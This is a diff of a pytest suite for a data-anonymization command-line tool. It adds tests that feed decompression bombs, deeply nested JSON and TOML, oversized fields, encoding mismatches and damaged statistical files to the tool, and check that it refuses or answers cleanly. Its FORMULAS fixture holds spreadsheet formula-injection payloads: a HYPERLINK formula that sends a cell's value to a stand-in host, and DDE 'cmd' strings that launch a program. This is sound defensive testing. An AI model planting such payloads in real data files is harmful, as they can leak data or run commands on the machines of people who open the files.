@@ -4,6 +4,7 @@ or a certificate (issue "Publish exactly what the data says", acceptance): each 
 problem, write no output and leave every input unchanged.  Every such subcommand gets at least
 40 distinct bad inputs; a sample of them also goes through the installed console script."""
 import bz2
+import codecs
 import gzip
 import hashlib
 import json
@@ -13,6 +14,7 @@ import subprocess
 import sys
 import zipfile
 from pathlib import Path
+from typing import NamedTuple
 
 import pytest
 
@@ -50,7 +52,9 @@ TABLES = {
     "blank lines only": ("\n\n\n", "is empty: a CSV table needs a header line"),
     "header only": ("zip,age,disease\n", "has a header but no rows"),
     "not UTF-8": (b"zip,age,disease\n1*,30,gr\xfcn\n", "is not UTF-8 text"),
-    "UTF-16": (GOOD_TABLE.encode("utf-16"), "is not UTF-8 text"),
+    # UTF-16 with its byte-order mark reads (issue 26 item 9); without it, it is named
+    "UTF-16 without a byte-order mark": (GOOD_TABLE.encode("utf-16-le"),
+                                         "looks like UTF-16 text without a byte-order mark"),
     "a row too long": ("zip,age,disease\n1*,30,flu,extra\n", "more fields than the header"),
     "repeated column": ("zip,zip,disease\n1,2,flu\n", "repeats the column name(s) ['zip']"),
     "empty column name": ("zip,,disease\n1,2,flu\n", "has an empty column name"),
@@ -534,6 +538,9 @@ def _write(folder: Path, name: str, spec) -> None:
         path.mkdir()
     elif spec == "<dangling>":
         path.symlink_to(folder / "nowhere.csv")
+    elif isinstance(spec, tuple) and spec[0] == "<append>":  # a raw JSON member, added
+        text = (folder / spec[1]).read_text().rstrip().removesuffix("}")
+        path.write_text(f"{text}, {spec[2]}}}")
     elif isinstance(spec, tuple) and spec[0] == "<merge>":
         data = json.loads((folder / spec[1]).read_text())
         data.update(spec[2])
@@ -608,3 +615,363 @@ def test_through_the_console_script(folder, command, fault):
                           timeout=120)
     assert done.stdout == ""
     _assert_refused(folder, done.returncode, done.stderr, argv, named, says, before)
+
+
+# ==================================================================== issue 26, on the script
+# The bad inputs and faults of issue "Nothing released unexamined" (items 5, 7 and 9), each
+# through the installed console script.  A case is *refused* (its exit code, one stderr line
+# naming the file or option and the problem, nothing on stdout, nothing written, every input
+# unchanged) or *answered* (an input that used to crash now gets its answer: the exit code, the
+# answer on stdout, at most the one expected warning on stderr, only the outputs asked for
+# written, every input unchanged).  The selected cases start together, a few at a time (one
+# module fixture), since each is a process of its own.
+class Script(NamedTuple):
+    refused: bool
+    files: dict  # name -> content (as _write takes it), written over the good files
+    argv: list
+    code: int
+    named: str  # refused: in the stderr line; answered: on stdout
+    says: str  # refused: in the stderr line; answered: the warning line ('' for none)
+    env: tuple = ()  # (name, value) pairs
+    writes: tuple = ()  # answered: the outputs the run writes
+
+
+def refused(files, argv, named, says, code=3, env=()) -> Script:
+    return Script(True, files, list(argv), code, named, says, tuple(env))
+
+
+def answered(files, argv, code, stdout, warning="", writes=()) -> Script:
+    return Script(False, files, [*argv, "-q"], code, stdout, warning, (), tuple(writes))
+
+
+def _pack(kind: str, data: bytes) -> bytes:
+    if kind == "zip":
+        return _zip(data)
+    return {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}[kind](data)
+
+
+BIG = 200_000  # characters: over the csv module's 128 KiB field limit
+BOMB = b"zip,age,disease\n" + b"1*,30,flu\n" * 200_000  # 2 MB that compress to a few KiB
+LIMIT = (("SKYPRIVACY_MAX_DECOMPRESSED", "1M"),)
+TINY = {"1e-320": "1e-320", "'1e-400'": '"1e-400"', "1/10^300": f'"1/1{"0" * 300}"'}
+TINY_ARG = {"1e-320": "1e-320", "'1e-400'": "1e-400", "1/10^300": f"1/1{'0' * 300}"}
+DEEP_OBJECTS = '{"a":' * 100_000 + "1" + "}" * 100_000
+DEEP_TOML = "[default]\nskyline = " + "{a=" * 100_000 + "1" + "}" * 100_000 + "\n"
+CP1252 = GOOD_TABLE.replace("hiv", "grün").replace("1*,31", "1*,31").encode("cp1252")
+FORMULAS = {"=HYPERLINK": '=HYPERLINK("http://x.example/?"&A1)', "+cmd|": "+cmd|' /C calc'!A0",
+            "@SUM": "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|": "-2+3+cmd|' /C calc'!A0",
+            "a tab": "\t=1+1"}
+JSON_QI = {"not JSON": ('["zip", ', "expected a JSON list of column names"),
+           "an empty list": ("[]", "expected a JSON list of non-empty column names"),
+           "a number": ("[3]", "expected a JSON list of non-empty column names"),
+           "a name twice": ('["zip", "zip"]', "a column is named twice")}
+ONE_POINT = "[default]\nskyline = [[0, 0, 0, 1]]\n"  # the formula tables: always safe
+
+
+def _table_of(cells: str) -> str:
+    return f"zip,age,disease\n1*,30,{cells}\n1*,31,flu\n2*,40,flu\n2*,41,hiv\n"
+
+
+def _quoted(cell: str) -> str:
+    """A CSV field holding ``cell`` (quotes doubled)."""
+    return '"' + cell.replace('"', '""') + '"'
+
+
+def _release(command: str, table: str, *extra) -> list:
+    return [command, table, "--qi", "zip", "--sensitive", "disease", *extra]
+
+
+def script_catalogue() -> dict:
+    """name -> Script."""
+    cases: dict = {}
+    # a decompression bomb (item 5), refused early: a gzip bomb on every command that reads a
+    # table, the other archives on the two commands that publish
+    for kind in ("gzip", "bz2", "xz", "zip"):
+        for command in TABLE_COMMANDS if kind == "gzip" else ("check", "anonymize"):
+            cases[f"{command}: a {kind} bomb"] = refused(
+                {"bomb.z": _pack(kind, BOMB)}, TABLE_COMMANDS[command]("bomb.z"), "bomb.z",
+                f"expands beyond 1,048,576 bytes when {kind}-decompressed (a decompression "
+                f"bomb?); set SKYPRIVACY_MAX_DECOMPRESSED", env=LIMIT)
+    for command, value in (("check", "abc"), ("check", "0"), ("check", "1.5G"),
+                           ("check", "-1"), ("anonymize", "0"), ("verify", "abc")):
+        cases[f"{command}: SKYPRIVACY_MAX_DECOMPRESSED={value}"] = refused(
+            {"small.gz": gzip.compress(GOOD_TABLE.encode())},
+            TABLE_COMMANDS[command]("small.gz"), "small.gz",
+            f"SKYPRIVACY_MAX_DECOMPRESSED={value!r} is not a positive size in bytes",
+            env=(("SKYPRIVACY_MAX_DECOMPRESSED", value),))
+    # a tiny valid confidence (item 5): an answer, never an OverflowError
+    for name, toml in TINY.items():
+        policy = {"tiny.toml": f"[default]\nskyline = [[0, 0, 0, {toml}]]\n"}
+        cases[f"check: c = {name} in the policy"] = answered(
+            policy, _release("check", "good.csv", "--policy", "tiny.toml"), 1, "UNSAFE: 3 of 3")
+        cases[f"anonymize: c = {name} in the policy"] = refused(
+            policy, _release("anonymize", "good.csv", "--policy", "tiny.toml", "--output",
+                             "out.csv"), "'cold'", "no generalization can satisfy the policy",
+            code=1)
+        arg = TINY_ARG[name]
+        shown = "1e-320" if name == "1e-320" else "1e-300" if "300" in name else "1/1000"
+        cases[f"find: --confidence {name}"] = answered(
+            {}, _release("find", "good.csv", "--confidence", arg), 0,
+            f"Knowledge skylines at confidence c = {shown}")
+        cases[f"compare: --confidence {name}"] = answered(
+            {}, _release("compare", "good.csv", "--k-anonymity", "2", "--confidence", arg), 0,
+            f"Knowledge skylines at confidence c = {shown}")
+        cases[f"check: --report-confidence {name}"] = answered(
+            {}, _release("check", "good.csv", "--policy", "good.toml", "--report", "out.html",
+                         "--report-confidence", arg), 0, "SAFE: all 3", writes=("out.html",))
+    cases["verify: a certificate of c = 1e-320 (unsafe, honest)"] = answered(
+        {}, ["verify", "good.csv", "--certificate", "tiny.json"], 0, "VERIFIED")
+    cases["verify --require-safe: a certificate of c = 1e-320"] = answered(
+        {}, ["verify", "good.csv", "--certificate", "tiny.json", "--require-safe"], 1,
+        "VERIFIED", warning="NOT SAFE: the certificate verifies, but its verdict is 'unsafe'; "
+                            "--require-safe asks for 'safe'")
+    # a CSV field over 128 KiB (item 5): read, never '_csv.Error: field larger than ...'
+    long_cell = {"long.csv": _table_of("x" * BIG)}
+    long_name = {"long.csv": GOOD_TABLE.replace("disease\n", f"disease,{'n' * BIG}\n")
+                 .replace("flu\n", "flu,a\n").replace("cold\n", "cold,b\n")
+                 .replace("hiv\n", "hiv,c\n")}
+    cases["check: a cell over 128 KiB"] = answered(
+        long_cell, _release("check", "long.csv", "--policy", "good.toml"), 0, "SAFE: all")
+    cases["check: a column name over 128 KiB"] = answered(
+        long_name, _release("check", "long.csv", "--policy", "good.toml"), 0, "SAFE: all")
+    cases["anonymize: a cell over 128 KiB"] = answered(
+        long_cell, _release("anonymize", "long.csv", "--policy", "good.toml", "--output",
+                            "out.csv"), 0, "SAFE: all", writes=("out.csv", "out.cert.json"))
+    cases["find: a cell over 128 KiB"] = answered(
+        long_cell, _release("find", "long.csv", "--confidence", "0.9"), 0,
+        "Knowledge skylines")
+    cases["compare: a column name over 128 KiB"] = answered(
+        long_name, _release("compare", "long.csv", "--k-anonymity", "2"), 0, "2-anonymous")
+    cases["risk: a cell over 128 KiB"] = answered(
+        long_cell, ["risk", "long.csv", "--qi", "zip"], 0, "Prosecutor risk")
+    cases["transparency check: a cell over 128 KiB"] = answered(
+        {"rules.csv": RULES.replace("F,a,3", f"F,{'a' * BIG},3")},
+        good("transparency check"), 0, "SAFE: the true rule is beta-private",
+        writes=("out.json",))
+    # JSON nested 100,000 deep (item 5): refused before it is parsed
+    for command, base in (("verify", "good.json"), ("transparency verify", "rule.json")):
+        argv = replaced(TABLE_COMMANDS[command](GOOD_INPUT.get(command, "good.csv")), base,
+                        "deep.json")
+        cases[f"{command}: a certificate of 100,000 nested objects"] = refused(
+            {"deep.json": DEEP_OBJECTS}, argv, "deep.json",
+            "nests arrays or objects 100000 levels deep; at most 100 are read")
+        cases[f"{command}: a field nested 100,000 deep"] = refused(
+            {"deep.json": ("<append>", base, '"notes": ' + "[" * 100_000 + "]" * 100_000)},
+            argv, "deep.json",
+            "nests arrays or objects 100001 levels deep; at most 100 are read")
+    for command in ("check", "anonymize"):
+        cases[f"{command}: a policy of 100,000 nested tables"] = refused(
+            {"deep.toml": DEEP_TOML}, replaced(good(command), "good.toml", "deep.toml"),
+            "deep.toml", "nests arrays or objects 100000 levels deep; at most 100 are read")
+    # encodings (item 9)
+    utf16 = {"u.csv": GOOD_TABLE.encode("utf-16")}
+    for command, extra, stdout, writes in (
+            ("check", ["--policy", "good.toml"], "SAFE: all", ()),
+            ("anonymize", ["--policy", "good.toml", "--output", "out.csv"], "SAFE: all",
+             ("out.csv", "out.cert.json")),
+            ("find", ["--confidence", "0.9"], "Knowledge skylines", ()),
+            ("compare", ["--k-anonymity", "2"], "2-anonymous", ())):
+        cases[f"{command}: Excel's Unicode text (UTF-16 with its mark)"] = answered(
+            utf16, _release(command, "u.csv", *extra), 0, stdout, writes=writes)
+    cases["risk: Excel's Unicode text (UTF-16 with its mark)"] = answered(
+        utf16, ["risk", "u.csv", "--qi", "zip"], 0, "Prosecutor risk")
+    cases["transparency check: UTF-16 with its mark"] = answered(
+        {"rules.csv": RULES.encode("utf-16")}, good("transparency check"), 0,
+        "SAFE: the true rule is beta-private", writes=("out.json",))
+    for name, data in (("UTF-16 big-endian with its mark",
+                        codecs.BOM_UTF16_BE + GOOD_TABLE.encode("utf-16-be")),
+                       ("UTF-32 with its mark", GOOD_TABLE.encode("utf-32")),
+                       ("gzip of UTF-16", gzip.compress(GOOD_TABLE.encode("utf-16")))):
+        cases[f"check: {name}"] = answered(
+            {"u.csv": data}, _release("check", "u.csv", "--policy", "good.toml"), 0,
+            "SAFE: all")
+    cases["check: cp1252 read with --encoding cp1252"] = answered(
+        {"w.csv": CP1252}, _release("check", "w.csv", "--policy", "good.toml", "--encoding",
+                                    "cp1252"), 0, "grün")
+    for command in ("check", "anonymize", "verify", "transparency verify"):
+        table = "w.csv"
+        files = {table: CP1252 if command != "transparency verify" else
+                 RULES.replace("F,a,", "F,\xe4,").encode("cp1252")}
+        cases[f"{command}: cp1252 text without --encoding"] = refused(
+            files, TABLE_COMMANDS[command](table), table,
+            "is not UTF-8 text: byte 0x" + ("fc at line 5, byte 9" if command !=
+                                            "transparency verify" else
+                                            "e4 at line 2, byte 3")
+            + "; pass --encoding cp1252 if")
+    for command in ("check", "anonymize"):
+        cases[f"{command}: UTF-16 without a byte-order mark"] = refused(
+            {"u.csv": GOOD_TABLE.encode("utf-16-le")}, TABLE_COMMANDS[command]("u.csv"),
+            "u.csv", "looks like UTF-16 text without a byte-order mark; pass --encoding "
+                     "utf-16-le")
+    for command in TABLE_COMMANDS:
+        cases[f"{command}: an unknown --encoding"] = refused(
+            {}, [*good(command), "--encoding", "klingon"], "--encoding",
+            "unknown text encoding 'klingon'", code=2)
+    cases["check: --encoding rot13 (not a text encoding)"] = refused(
+        {}, [*good("check"), "--encoding", "rot13"], "--encoding",
+        "unknown text encoding 'rot13'", code=2)
+    cases["check: --encoding ascii on UTF-8 text"] = refused(
+        {"u.csv": _table_of("grün")}, [*TABLE_COMMANDS["check"]("u.csv"), "--encoding",
+                                        "ascii"], "u.csv",
+        "is not ascii text: byte 0xc3 at line 2, byte 9; check --encoding")
+    cases["check: --encoding utf-32 on UTF-8 text"] = refused(
+        {}, [*good("check"), "--encoding", "utf-32"], "good.csv",
+        "is not utf-32 text: byte 0x7a at line 1, byte 1")
+    # formula cells (item 7): published as they are, with one warning naming the first
+    for name, cell in FORMULAS.items():
+        cases[f"anonymize: a formula cell {name}"] = answered(
+            {"f.csv": _table_of(_quoted(cell)), "one.toml": ONE_POINT},
+            _release("anonymize", "f.csv", "--policy", "one.toml", "--output", "out.csv"), 0,
+            "SAFE: all", warning="cell(s) of the CSV output start like a spreadsheet formula "
+                                 f"(first: {cell[:40]!r} in column 'disease')",
+            writes=("out.csv", "out.cert.json"))
+    cases["compare: a formula cell in the released table"] = answered(
+        {"f.csv": _table_of(_quoted(FORMULAS["=HYPERLINK"]))},
+        _release("compare", "f.csv", "--k-anonymity", "2", "--output", "out.csv"), 0,
+        "2-anonymous", warning="start like a spreadsheet formula",
+        writes=("out.csv",))
+    # column names holding a comma (item 9): --qi as a JSON list
+    commas = {"c.csv": GOOD_TABLE.replace("zip,", '"zip, coarse",', 1)}
+    cases["check: a QI named with a comma, as a JSON list"] = answered(
+        commas, ["check", "c.csv", "--qi", '["zip, coarse"]', "--sensitive", "disease",
+                 "--policy", "good.toml"], 0, "SAFE: all")
+    for command in ("check", "anonymize", "find", "compare"):
+        for name, (text, says) in JSON_QI.items():
+            if command != "check" and name not in {"anonymize": ("not JSON", "a name twice"),
+                                                   "find": ("an empty list",),
+                                                   "compare": ("a number",)}[command]:
+                continue
+            cases[f"{command}: --qi as JSON, {name}"] = refused(
+                {}, with_option(good(command), "--qi", text), "--qi", says, code=2)
+    cases["risk: --qi as JSON, not JSON"] = refused(
+        {}, ["risk", "good.csv", "--qi", '["zip"'], "--qi", "expected a JSON list", code=2)
+    cases["check: --qi as JSON naming a column that is not there"] = refused(
+        commas, ["check", "c.csv", "--qi", '["zip,coarse"]', "--sensitive", "disease",
+                 "--policy", "good.toml"], "'zip,coarse'",
+        "is not in the table; columns are ['zip, coarse', 'age', 'disease']")
+    # SAS, SPSS, Stata and Excel inputs (item 9): damaged files are one line
+    for name, what in ((".sav", "SPSS data file"), (".dta", "Stata data file"),
+                       (".sas7bdat", "SAS data set"), (".xpt", "SAS transport file")):
+        cases[f"check: a damaged {name}"] = refused(
+            {f"t{name}": b"garbage" * 20}, TABLE_COMMANDS["check"](f"t{name}"), f"t{name}",
+            f"is not a readable {what}")
+    cases["check: a damaged .xlsx"] = refused(
+        {"t.xlsx": _xlsx_like()}, TABLE_COMMANDS["check"]("t.xlsx"), "t.xlsx",
+        "is not a readable Excel workbook")
+    cases["check: an SPSS file"] = answered(
+        {}, _release("check", "good.sav", "--policy", "good.toml"), 0, "SAFE: all")
+    cases["check: an Excel workbook"] = answered(
+        {}, _release("check", "good.xlsx", "--policy", "good.toml"), 0, "SAFE: all")
+    # anonymize --individual (item 9): one row per person and value; its faults are one line
+    people = {"mv.csv": "pid,zip,age,disease\na,1*,30,flu\na,1*,30,hiv\nb,1*,31,flu\n"
+                        "c,2*,40,cold\nd,2*,41,flu\n"}
+    person = _release("anonymize", "mv.csv", "--policy", "good.toml", "--output", "out.csv",
+                      "--individual", "pid")
+    cases["anonymize --individual: svpi"] = refused(
+        people, person, "--individual", "pass --semantics mvpi-set or mvpi-multiset", code=2)
+    cases["anonymize --individual: a person with two zips"] = refused(
+        {"mv.csv": people["mv.csv"].replace("b,1*", "a,3*")},
+        [*person, "--semantics", "mvpi-set"], "mv.csv",
+        "individual 'a' has 2 different 'zip' cells ('1*', '3*')")
+    cases["anonymize --individual: --bucketized"] = refused(
+        people, [*person, "--semantics", "mvpi-set", "--bucketized"], "--individual",
+        "works with a generalized release (not --bucketized)", code=2)
+    cases["anonymize --individual: a value twice for a person in mvpi-set"] = refused(
+        {"mv.csv": people["mv.csv"].replace("a,1*,30,hiv", "a,1*,30,flu")},
+        [*person, "--semantics", "mvpi-set"], "mv.csv", "flu")
+    return cases
+
+
+def _xlsx_like() -> bytes:
+    """A zip that names itself a workbook ([Content_Types].xml, xl/) but holds no sheet."""
+    import io
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/workbook.xml", "not xml")
+    return buffer.getvalue()
+
+
+SCRIPT_CASES = script_catalogue()
+
+
+def test_the_script_catalogue_adds_at_least_95_distinct_cases():
+    assert len(SCRIPT_CASES) >= 95
+    distinct = {json.dumps([sorted((k, repr(v)) for k, v in case.files.items()), case.argv,
+                            case.env]) for case in SCRIPT_CASES.values()}
+    assert len(distinct) == len(SCRIPT_CASES)
+
+
+def run_scripts(cases: dict, folders: dict, extra_env: dict | None = None) -> dict:
+    """Run each case's console script in its folder, a few at a time: name -> (code, stdout,
+    stderr, snapshot before, snapshot after)."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    def one(name):
+        case, folder = cases[name], folders[name]
+        for file, spec in case.files.items():
+            _write(folder, file, spec)
+        before = _snapshot(folder)
+        env = {**os.environ, **dict(case.env), **(extra_env or {})}
+        done = subprocess.run([SCRIPT, *case.argv], cwd=folder, capture_output=True,
+                              text=True, timeout=300, env=env)
+        return name, (done.returncode, done.stdout, done.stderr, before, _snapshot(folder))
+
+    with ThreadPoolExecutor(max_workers=3) as pool:
+        return dict(pool.map(one, list(cases)))
+
+
+def assert_outcome(case: Script, outcome) -> None:
+    code, stdout, stderr, before, after = outcome
+    lines = stderr.strip().splitlines()
+    assert "Traceback" not in stderr and "internal error" not in stderr, stderr
+    assert code == case.code, (case.argv, code, stderr)
+    if case.refused:
+        assert stdout == "", stdout
+        assert len(lines) == 1, stderr
+        assert case.named in lines[0] and case.says in lines[0], (case.named, case.says, stderr)
+        assert after == before  # nothing written, no temporary file, every input unchanged
+        return
+    assert case.named in stdout, (case.named, stdout[:2000])
+    assert lines == [] if not case.says else (len(lines) == 1 and case.says in lines[0]), stderr
+    assert {k: v for k, v in after.items() if k in before} == before  # inputs unchanged
+    assert sorted(set(after) - set(before)) == sorted(case.writes)
+
+
+@pytest.fixture(scope="module")
+def script_outcomes(request, good_files, tmp_path_factory):
+    """Every selected case of test_on_the_console_script, run once (a few at a time)."""
+    wanted = [item.callspec.params["name"] for item in request.session.items
+              if item.originalname == "test_on_the_console_script"
+              and item.module is request.module]
+    folders = {}
+    extras = _extra_good_files(good_files, tmp_path_factory.mktemp("extra"))
+    for name in wanted:
+        folder = tmp_path_factory.mktemp("case")
+        for file, data in {**good_files, **extras}.items():
+            (folder / file).write_bytes(data)
+        folders[name] = folder
+    return run_scripts({name: SCRIPT_CASES[name] for name in wanted}, folders)
+
+
+def _extra_good_files(good_files: dict, folder: Path) -> dict:
+    """A certificate of good.csv under a policy of c = 1e-320 (honest: verdict unsafe), and
+    good.csv as an SPSS file and an Excel workbook."""
+    import pandas as pd
+    import pyreadstat
+
+    (folder / "good.csv").write_bytes(good_files["good.csv"])
+    (folder / "tiny.toml").write_text("[default]\nskyline = [[0, 0, 0, 1e-320]]\n")
+    assert main(["check", str(folder / "good.csv"), "--qi", "zip", "--sensitive", "disease",
+                 "--policy", str(folder / "tiny.toml"), "--certificate",
+                 str(folder / "tiny.json"), "-q"]) == 1
+    frame = pd.read_csv(folder / "good.csv", dtype=str)
+    pyreadstat.write_sav(frame, str(folder / "good.sav"))
+    frame.to_excel(folder / "good.xlsx", index=False)
+    return {name: (folder / name).read_bytes() for name in ("tiny.json", "good.sav",
+                                                            "good.xlsx")}
+
+
+@pytest.mark.parametrize("name", list(SCRIPT_CASES))
+def test_on_the_console_script(script_outcomes, name):
+    assert_outcome(SCRIPT_CASES[name], script_outcomes[name])
